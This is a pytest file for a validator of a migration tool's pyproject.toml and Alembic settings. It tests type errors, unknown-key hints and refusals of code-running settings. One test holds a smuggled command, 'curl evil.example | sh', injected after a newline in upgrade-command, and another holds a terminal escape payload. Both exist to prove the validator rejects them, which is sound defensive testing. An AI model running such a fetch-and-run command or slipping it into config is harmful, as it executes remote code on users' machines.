"""The one validator of `[tool.ahq-history]` (config/settings.py) and of the Alembic options we read."""

from __future__ import annotations

from pathlib import Path

import pytest

from ahq_history.config.settings import (
    SETTINGS,
    check_ini_option,
    check_toml_option,
    local_value,
    setting_line,
    validate_settings,
)
from ahq_history.core.errors import ConfigError


def settings_file(root: Path, body: str) -> tuple[dict[str, object], Path]:
    import tomllib

    path = root / "pyproject.toml"
    path.write_text('[project]\nname = "app"\n\n[tool.ahq-history]\n' + body)
    return tomllib.loads(path.read_text())["tool"]["ahq-history"], path


def refused(root: Path, body: str) -> ConfigError:
    table, path = settings_file(root, body)
    with pytest.raises(ConfigError) as caught:
        validate_settings(table, path, root)
    assert caught.value.exit_code == 2
    return caught.value


def test_every_known_setting_with_a_good_value_passes(tmp_path: Path) -> None:
    body = "".join(f"{s.line()}\n" for s in SETTINGS.values() if s.local_only is None)
    for folder in ("backend", "worker"):  # `projects` names paths that exist
        (tmp_path / folder).mkdir()
    table, path = settings_file(tmp_path, body)
    assert validate_settings(table, path, tmp_path) == ()


def test_wrong_type_names_the_key_the_file_and_the_line(tmp_path: Path) -> None:
    error = refused(tmp_path, 'version-table = "v"\nupgrade-command = 5\n')
    assert error.message == (f"{tmp_path / 'pyproject.toml'}:6: [tool.ahq-history] upgrade-command must be a "
                             "command line (a non-empty string): 5 is not a non-empty string")
    assert error.hint == 'write upgrade-command = "flask db upgrade"'


def test_empty_string_is_refused(tmp_path: Path) -> None:
    error = refused(tmp_path, 'version-table = ""\n')
    assert error.message.endswith("version-table must be a table name (a non-empty string): '' is not a "
                                  "non-empty string")


def test_wrong_database_url_type_never_quotes_the_value(tmp_path: Path) -> None:
    error = refused(tmp_path, 'database-url = ["postgresql://bob:s3cret@db/app"]\n')
    assert error.message == (f"{tmp_path / 'pyproject.toml'}:5: [tool.ahq-history] database-url must be a "
                             "database URL (a non-empty string): a list is not a non-empty string")


def test_upgrade_command_with_a_newline_is_refused_as_a_second_command(tmp_path: Path) -> None:
    error = refused(tmp_path, 'upgrade-command = "alembic upgrade head\\ncurl evil.example | sh"\n')
    assert error.message.endswith("upgrade-command must be a command line (a non-empty string): it holds a "
                                  "control character (a newline, a tab or an escape)")


def test_upgrade_command_with_an_escape_sequence_is_refused(tmp_path: Path) -> None:
    error = refused(tmp_path, 'upgrade-command = "alembic upgrade head\\u001b]0;pwned\\u0007"\n')
    assert "control character" in error.message


def test_upgrade_command_with_an_unclosed_quote_is_refused(tmp_path: Path) -> None:
    error = refused(tmp_path, "upgrade-command = \"flask db upgrade 'x\"\n")
    assert error.message.endswith("it cannot be split into words (No closing quotation)")


def test_projects_must_be_a_list_of_strings(tmp_path: Path) -> None:
    error = refused(tmp_path, 'projects = ["backend", 3]\n')
    assert error.message.endswith("projects must be a list of project folders or configuration files: 3 in "
                                  "the list is not a non-empty string")


def test_lint_must_be_a_table(tmp_path: Path) -> None:
    error = refused(tmp_path, 'lint = "AHQ002"\n')
    assert error.message.endswith(":5: [tool.ahq-history] lint must be a table of lint settings: 'AHQ002' is "
                                  "not a table")


def test_lint_table_errors_name_the_file_and_the_tables_line(tmp_path: Path) -> None:
    error = refused(tmp_path, '\n[tool.ahq-history.lint]\ndisable = "AHQ002"\n')
    assert error.message == (f"{tmp_path / 'pyproject.toml'}:6: [tool.ahq-history.lint] disable must be a "
                             'list of check ids, e.g. ["AHQ002"]')


def test_dotted_and_quoted_keys_are_found_on_their_line(tmp_path: Path) -> None:
    path = tmp_path / "pyproject.toml"
    path.write_text('[tool]\n"ahq-history"."heads-file" = 7\n')
    import tomllib

    table = tomllib.loads(path.read_text())["tool"]["ahq-history"]
    with pytest.raises(ConfigError) as caught:
        validate_settings(table, path, tmp_path)
    assert caught.value.message.startswith(f"{path}:2: [tool.ahq-history] heads-file must be")


def test_key_in_an_inline_table_is_named_with_the_file_alone(tmp_path: Path) -> None:
    path = tmp_path / "pyproject.toml"
    path.write_text('tool = { ahq-history = { version-table = 1 } }\n')
    import tomllib

    table = tomllib.loads(path.read_text())["tool"]["ahq-history"]
    with pytest.raises(ConfigError) as caught:
        validate_settings(table, path, tmp_path)
    assert caught.value.message.startswith(f"{path}: [tool.ahq-history] version-table must be")


def test_unknown_key_is_a_warning_naming_the_closest_known_key(tmp_path: Path) -> None:
    table, path = settings_file(tmp_path, 'databse-url = "sqlite:///app.db"\n')
    (warning,) = validate_settings(table, path, tmp_path)
    assert (warning.kind, warning.severity, warning.path, warning.line) == (
        "unknown-setting", "warning", "pyproject.toml", 5)
    assert warning.message == (
        "unknown setting 'databse-url' in [tool.ahq-history]: did you mean 'database-url'?")


def test_unknown_key_far_from_any_lists_the_settings(tmp_path: Path) -> None:
    table, path = settings_file(tmp_path, "colour = true\n")
    (warning,) = validate_settings(table, path, tmp_path)
    assert warning.message.startswith("unknown setting 'colour' in [tool.ahq-history] (the settings are "
                                      "database-url, exec-unresolved, gate-budget, heads-file, hook-budget, "
                                      "lint, ")


def test_warning_path_is_relative_to_the_project_root(tmp_path: Path) -> None:
    table, path = settings_file(tmp_path, "upgrade_command = 'make migrate'\n")
    (warning,) = validate_settings(table, path, tmp_path / "backend")
    assert warning.path == "../pyproject.toml"
    assert warning.message.endswith("did you mean 'upgrade-command'?")


@pytest.mark.parametrize(("key", "value", "reason"), [
    ("upgrade-after-pull", "true", "runs commands"),
    ("exec-unresolved", "true", "imports revision files, running their code"),
    ("hook-budget", "3600", "could let a git hook hold git for as long as it likes"),
])
def test_setting_that_runs_code_from_a_tracked_file_is_refused_saying_where_to_set_it(
    tmp_path: Path, key: str, value: str, reason: str
) -> None:
    error = refused(tmp_path, f"{key} = {value}\n")
    assert error.message == (f"{tmp_path / 'pyproject.toml'}:5: [tool.ahq-history] {key} {reason}, so a file "
                             "in the repository cannot set it")
    assert error.hint is not None
    assert error.hint.startswith(f"set it for this clone only: git config ahq-history.{key} ")


def test_local_git_config_values_are_typed() -> None:
    assert local_value("upgrade-after-pull", "yes") is True
    assert local_value("exec-unresolved", "off") is False
    assert local_value("hook-budget", "2.5") == 2.5


@pytest.mark.parametrize(("key", "text", "message"), [
    ("hook-budget", "soon", "git config ahq-history.hook-budget must be a number of seconds: 'soon' is not a "
                            "number of seconds"),
    ("hook-budget", "0", "git config ahq-history.hook-budget must be a number of seconds: '0' is not "
                         "between 0 and 600 seconds"),
    ("upgrade-after-pull", "sometimes", "git config ahq-history.upgrade-after-pull must be true or false: "
                                        "'sometimes' is not true or false"),
])
def test_wrong_local_git_config_value_names_the_git_key(key: str, text: str, message: str) -> None:
    with pytest.raises(ConfigError) as caught:
        local_value(key, text)
    assert caught.value.message == message


def test_unknown_local_git_config_key_names_the_closest() -> None:
    with pytest.raises(ConfigError) as caught:
        local_value("hook-budjet", "5")
    assert caught.value.message == (
        "git config ahq-history.hook-budjet: unknown setting: did you mean 'hook-budget'?")


# -- Alembic's options --------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["space", "newline", "os", ":", ";"])
def test_alembics_own_path_separators_pass(value: str) -> None:
    check_ini_option("path_separator", value, "alembic.ini:9")


def test_path_separator_comma_is_refused_with_alembics_list() -> None:
    with pytest.raises(ConfigError) as caught:
        check_ini_option("path_separator", "comma", "alembic.ini:9")
    assert caught.value.message == (
        "alembic.ini:9: 'comma' is not a valid value for path_separator; expected 'space', 'newline', 'os', "
        "':', ';'")


def test_boolean_option_that_alembic_would_misread_is_refused() -> None:
    with pytest.raises(ConfigError) as caught:
        check_ini_option("recursive_version_locations", "True", "alembic.ini:12")
    assert caught.value.message == (
        "alembic.ini:12: recursive_version_locations = 'True' is neither true nor false (Alembic reads every "
        "word but `true` as false)")


def test_toml_option_of_the_wrong_type_is_refused() -> None:
    with pytest.raises(ConfigError) as caught:
        check_toml_option("file_template", 5, "pyproject.toml")
    assert caught.value.message == "pyproject.toml: [tool.alembic] file_template must be a string, not 5"


def test_setting_line_ignores_the_same_key_in_another_table() -> None:
    text = '[tool.other]\ndatabase-url = "x"\n[tool.ahq-history]\ndatabase-url = "y"\n'
    assert setting_line(text, ("tool", "ahq-history", "database-url")) == 4
